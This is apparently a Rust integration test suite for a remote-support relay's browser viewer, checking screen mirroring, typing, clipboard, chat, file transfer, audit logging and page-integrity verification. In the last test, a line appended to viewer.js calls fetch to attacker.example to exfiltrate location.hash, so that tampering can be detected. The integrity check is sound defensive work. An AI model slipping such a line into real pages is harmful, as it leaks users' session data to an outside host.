//! The technician's browser: the page `lifeline-relay serve --web` serves,
//! in a real headless Chromium, joins a real host on Xvfb through the real
//! relay over WebTransport (the relay's QUIC port, its certificate known by
//! hash), with the session crate running in the page as WebAssembly. The
//! canvas must equal the X screen pixel for pixel, typed text must arrive
//! exactly, the clipboard must cross both ways, a dropped file must arrive
//! and a fetched one download, and the audit log must say a browser viewed.
//! `LIFELINE_SCREENSHOTS=DIR` also saves README's picture of the page.
//! Needs `scripts/web build` first (scripts/web test does it);
//! `LIFELINE_REQUIRE_BROWSER=1` fails instead of skipping without it.

use std::path::{Path, PathBuf};

use base64::Engine as _;
use lifeline_proto::audit::{AuditEvent, ViewerKind};
use lifeline_session::screen::Image;
use lifeline_tests::browser::{Browser, chromium};
use lifeline_tests::peers::HostProcess;
use lifeline_tests::x::{Xvfb, pattern_image};
use lifeline_tests::{RelayProcess, audit_records, bin, relay_cli, wait_for};

use crate::toolkit::{xclip_get, xclip_set};
use serde_json::json;

/// Whether the page's files are built beside the relay binary.
pub(crate) fn web_files() -> Option<PathBuf> {
    let dir = bin("lifeline-relay").parent()?.join("../web");
    dir.join("index.html").is_file().then_some(dir)
}

/// Whether these tests can run here; with LIFELINE_REQUIRE_BROWSER set
/// they must.
pub(crate) fn skip() -> bool {
    let missing = if lifeline_tests::x::skip_without_xvfb() {
        Some("Xvfb")
    } else if chromium().is_none() {
        Some("chromium")
    } else if web_files().is_none() {
        Some("the page's files (scripts/web build)")
    } else {
        None
    };
    let Some(what) = missing else {
        return false;
    };
    assert!(
        std::env::var_os("LIFELINE_REQUIRE_BROWSER").is_none(),
        "{what} is missing: run scripts/install-deps and scripts/web build"
    );
    eprintln!("SKIPPED: no {what}");
    true
}

/// The canvas's pixels as an [`Image`] (`None` before the first frame).
pub(crate) fn canvas(b: &mut Browser) -> Option<Image> {
    let v = b.eval(
        "(() => { const c = document.querySelector('#screen');
           if (c.width < 2) return null;
           const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
           let s = ''; const step = 0x8000;
           for (let i = 0; i < d.length; i += step) s += String.fromCharCode.apply(null, d.subarray(i, i + step));
           return { w: c.width, h: c.height, rgba: btoa(s) }; })()",
    );
    if v.is_null() {
        return None;
    }
    let rgba = base64::engine::general_purpose::STANDARD
        .decode(v["rgba"].as_str()?)
        .ok()?;
    let pixels = rgba
        .chunks_exact(4)
        .map(|p| u32::from_be_bytes([0, p[0], p[1], p[2]]))
        .collect();
    Some(Image {
        width: v["w"].as_u64()? as u32,
        height: v["h"].as_u64()? as u32,
        pixels,
    })
}

/// Waits for the page's state (`window.lifeline.state`) to be `want`.
pub(crate) fn state(b: &mut Browser, want: &str) {
    wait_for(&format!("the page's state {want}"), || {
        let s = b.eval("window.lifeline.state");
        (s == json!(want)).then_some(())
    });
}

/// Where remote pixel (`x`, `y`) is on the page, in CSS pixels.
fn on_page(b: &mut Browser, x: u32, y: u32) -> (f64, f64) {
    let r = b.eval(&format!(
        "(() => {{ const c = document.querySelector('#screen'); const r = c.getBoundingClientRect();
           const s = Math.min(r.width / c.width, r.height / c.height);
           return [r.left + (r.width - c.width * s) / 2 + ({x} + 0.5) * s,
                   r.top + (r.height - c.height * s) / 2 + ({y} + 0.5) * s]; }})()"
    ));
    (r[0].as_f64().unwrap(), r[1].as_f64().unwrap())
}

/// Types `text` one key at a time, as a keyboard would.
fn type_text(b: &mut Browser, text: &str) {
    for c in text.chars() {
        let s = c.to_string();
        let code = match c {
            'a'..='z' | 'A'..='Z' => format!("Key{}", c.to_ascii_uppercase()),
            '0'..='9' => format!("Digit{c}"),
            ' ' => "Space".into(),
            _ => String::new(),
        };
        b.press(&s, &code, &s, 0);
    }
}

fn shot(b: &mut Browser, name: &str) {
    if let Some(dir) = std::env::var_os("LIFELINE_SCREENSHOTS") {
        let dir = PathBuf::from(dir);
        std::fs::create_dir_all(&dir).unwrap();
        b.screenshot(&dir.join(format!("browser-{name}.png")));
    }
}

/// The page joins, shows the X screen exactly, and types into an xterm.
fn view_and_type(
    (url, ca): (&str, &Path),
    (code, token): (&str, &str),
    x: &Xvfb,
    (typed, work): (&Path, &Path),
    host: &HostProcess,
) {
    // As a technician's browser after README's step 3: the relay's CA
    // imported, no certificate error ignored.
    let mut b = Browser::start_trusting(ca);
    b.goto(&format!("{url}/"));
    wait_for("the page's module", || {
        (b.eval("window.lifeline.ready") == json!(true)).then_some(())
    });
    // The code is checked as typed: a typo says so and keeps Connect off.
    b.fill("input[name=code]", "123-456-789-010");
    b.eval("document.querySelector('input[name=code]').dispatchEvent(new Event('input'))");
    assert!(
        b.text("#code-check").contains("typo"),
        "{}",
        b.text("#code-check")
    );
    assert_eq!(
        b.eval("document.querySelector('#join button').disabled"),
        json!(true)
    );
    b.fill("input[name=code]", code);
    b.eval("document.querySelector('input[name=code]').dispatchEvent(new Event('input'))");
    b.fill("input[name=token]", token);
    shot(&mut b, "join");
    b.eval("document.querySelector('#join button').click()");
    state(&mut b, "control");

    let screen = x.screenshot();
    let shown = wait_for("the canvas to equal the X screen", || {
        canvas(&mut b).filter(|c| *c == screen)
    });
    assert_eq!((shown.width, shown.height), (screen.width, screen.height));
    shot(&mut b, "session");

    // Point at the xterm (focus follows the pointer), then type.
    let (px, py) = on_page(&mut b, 420, 330);
    b.mouse_click(px, py);
    wait_for("the remote pointer", || {
        let (rx, ry) = x.pointer();
        ((rx - 420).abs() <= 1 && (ry - 330).abs() <= 1).then_some(())
    });
    let text = "Browser typed: Hello, wörld 42!";
    type_text(&mut b, text);
    b.press("Enter", "Enter", "\r", 13);
    let got = wait_for("the typed line", || {
        std::fs::read_to_string(typed)
            .ok()
            .filter(|s| s.ends_with('\n'))
    });
    assert_eq!(got, format!("{text}\n"));

    clipboard_and_chat(&mut b, url, x, host);
    files(&mut b, work, host);

    b.eval("document.querySelector('#disconnect').click()");
    state(&mut b, "ended");
}

/// A file dropped on the page arrives in the user's download folder, and
/// one fetched from the user's machine downloads in the browser, both
/// byte for byte (several chunks each).
fn files(b: &mut Browser, work: &Path, host: &HostProcess) {
    b.eval(
        "(() => { const bytes = new Uint8Array(200000).map((_, i) => (i * 7 + (i >> 8)) & 255);
           const dt = new DataTransfer(); dt.items.add(new File([bytes], 'dropped.bin'));
           document.querySelector('#stage').dispatchEvent(
             new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true })); })()",
    );
    let want: Vec<u8> = (0..200_000u32)
        .map(|i| ((i * 7 + (i >> 8)) & 255) as u8)
        .collect();
    let received = host.wait_event("file_received");
    let path = PathBuf::from(received["path"].as_str().unwrap());
    assert!(path.starts_with(work.join("Downloads")), "{received}");
    assert_eq!(std::fs::read(&path).unwrap(), want);

    let remote = work.join("report.log");
    let body: Vec<u8> = (0..150_017u32).map(|i| (i % 251) as u8).collect();
    std::fs::write(&remote, &body).unwrap();
    let got = work.join("browser-downloads");
    std::fs::create_dir_all(&got).unwrap();
    b.download_to(&got);
    b.fill("#get input[name=path]", remote.to_str().unwrap());
    b.eval("document.querySelector('#get button').click()");
    let fetched = wait_for("the download", || {
        std::fs::read(got.join("report.log"))
            .ok()
            .filter(|d| d.len() == body.len())
    });
    assert_eq!(fetched, body);
    host.wait_event("file_sent");
}

/// The clipboard both ways through the browser's own clipboard (Unicode
/// exact), and a chat message to the user.
fn clipboard_and_chat(b: &mut Browser, url: &str, x: &Xvfb, host: &HostProcess) {
    b.call(
        "Browser.grantPermissions",
        json!({"origin": url, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}),
    );
    // The host's clipboard first (as the native toolkit test does): right
    // after the host itself put text there, another program's newer text
    // can lose a race with the host's own copy (left alone; see the note).
    let back = "From the host: ✓ ß";
    xclip_set(&x.display, back);
    // xclip serves it from the background: once another program reads
    // it there (a CI run under load once asked before), the page asks.
    wait_for("xclip to serve the text", || {
        (xclip_get(&x.display).stdout == back.as_bytes()).then_some(())
    });
    b.eval("document.querySelector('#clip-get').click()");
    wait_for("the page's clipboard", || {
        (b.eval("window.lifeline.clipboard") == json!(back)).then_some(())
    });
    assert_eq!(b.eval("navigator.clipboard.readText()"), json!(back));

    let out = "From the browser: ünïcode ✓";
    b.eval(&format!("navigator.clipboard.writeText({})", json!(out)));
    b.eval("document.querySelector('#clip-send').click()");
    wait_for("the host's clipboard", || {
        let o = xclip_get(&x.display);
        (String::from_utf8_lossy(&o.stdout) == out).then_some(())
    });

    b.fill("#chat input[name=text]", "Hello from the page");
    b.eval("document.querySelector('#chat button').click()");
    let chat = host.wait_event("chat");
    assert_eq!(chat["text"], json!("Hello from the page"), "{chat}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_technician_with_only_a_browser_sees_the_screen_and_types() {
    if skip() {
        return;
    }
    let x = Xvfb::start(640, 480);
    let _shown = x.show(30, 20, &pattern_image(300, 200, 11));
    let dir = tempfile::tempdir().unwrap();
    let typed = dir.path().join("typed.txt");
    let _xterm = x.xterm_cat("40x5+320+300", &typed);
    let data = tempfile::tempdir().unwrap();
    let d = data.path().to_str().unwrap().to_owned();
    let (rc, token, err) = relay_cli(&["technician", "add", "wendy", "--data-dir", &d]);
    assert_eq!(rc, 0, "{err}");
    let relay = RelayProcess::start(data.path(), &["--web", "127.0.0.1:0"]);
    let url = relay.web.clone().expect("the relay printed the page's URL");
    let ca = data.path().join("ca.pem");
    let downloads = dir.path().join("Downloads");
    let host = HostProcess::spawn(
        &relay.addr.to_string(),
        &ca,
        &x.display,
        &[
            "--allow",
            "control",
            "--allow-fetch",
            "yes",
            "--download-dir",
            downloads.to_str().unwrap(),
        ],
    );
    let code = host.code().to_string();
    let token = token.trim().to_owned();
    let display = x.display.clone();
    let typed2 = typed.clone();
    let work = dir.path().to_owned();
    let ca2 = ca.clone();
    let _host = tokio::task::spawn_blocking(move || {
        let x = Xvfb::attach(&display, 640, 480);
        view_and_type((&url, &ca2), (&code, &token), &x, (&typed2, &work), &host);
        host
    })
    .await
    .unwrap();

    // The audit log names the technician, and that a browser viewed.
    let records = audit_records(data.path());
    let started = records
        .iter()
        .find_map(|r| match &r.event {
            AuditEvent::SessionStarted {
                technician,
                viewer_kind,
                ..
            } => Some((technician.clone(), *viewer_kind)),
            _ => None,
        })
        .expect("a session started");
    assert_eq!(started, ("wendy".into(), Some(ViewerKind::Browser)));
    let (rc, list, _) = relay_cli(&["audit", "list", "--data-dir", &d]);
    assert_eq!(rc, 0);
    assert!(list.contains("technician=wendy (browser)"), "{list}");
}

/// `lifeline-viewer verify-web`: the relay's page against the build's
/// SHA256SUMS passes; a relay serving a changed `viewer.js` is named.
#[test]
fn verify_web_names_a_changed_page() {
    let Some(files) = web_files() else {
        assert!(
            std::env::var_os("LIFELINE_REQUIRE_BROWSER").is_none(),
            "the page's files are missing: run scripts/web build"
        );
        eprintln!("SKIPPED: no page files (scripts/web build)");
        return;
    };
    let sums = files.join("SHA256SUMS");
    let verify = |url: &str, ca: &Path| {
        let out = std::process::Command::new(bin("lifeline-viewer"))
            .args(["verify-web", url, "--sums"])
            .arg(&sums)
            .arg("--ca")
            .arg(ca)
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        (out.status.code(), text)
    };

    let data = tempfile::tempdir().unwrap();
    let ca = data.path().join("ca.pem");
    let relay = RelayProcess::start(data.path(), &["--web", "127.0.0.1:0"]);
    let url = format!("{}/", relay.web.clone().unwrap());
    let (code, text) = verify(&url, &ca);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("is the published one"), "{text}");
    drop(relay);

    // A relay serving a page with one more line in viewer.js.
    let changed = tempfile::tempdir().unwrap();
    for entry in std::fs::read_dir(&files).unwrap() {
        let p = entry.unwrap().path();
        std::fs::copy(&p, changed.path().join(p.file_name().unwrap())).unwrap();
    }
    let js = changed.path().join("viewer.js");
    let mut body = std::fs::read_to_string(&js).unwrap();
    body.push_str("\nfetch('https://attacker.example/' + location.hash);\n");
    std::fs::write(&js, body).unwrap();
    let data2 = tempfile::tempdir().unwrap();
    let relay = RelayProcess::start(
        data2.path(),
        &[
            "--web",
            "127.0.0.1:0",
            "--web-files",
            changed.path().to_str().unwrap(),
        ],
    );
    let url = format!("{}/", relay.web.clone().unwrap());
    let (code, text) = verify(&url, &data2.path().join("ca.pem"));
    assert_eq!(code, Some(1), "{text}");
    assert!(
        text.contains("NOT the published one") && text.contains("viewer.js"),
        "{text}"
    );
}
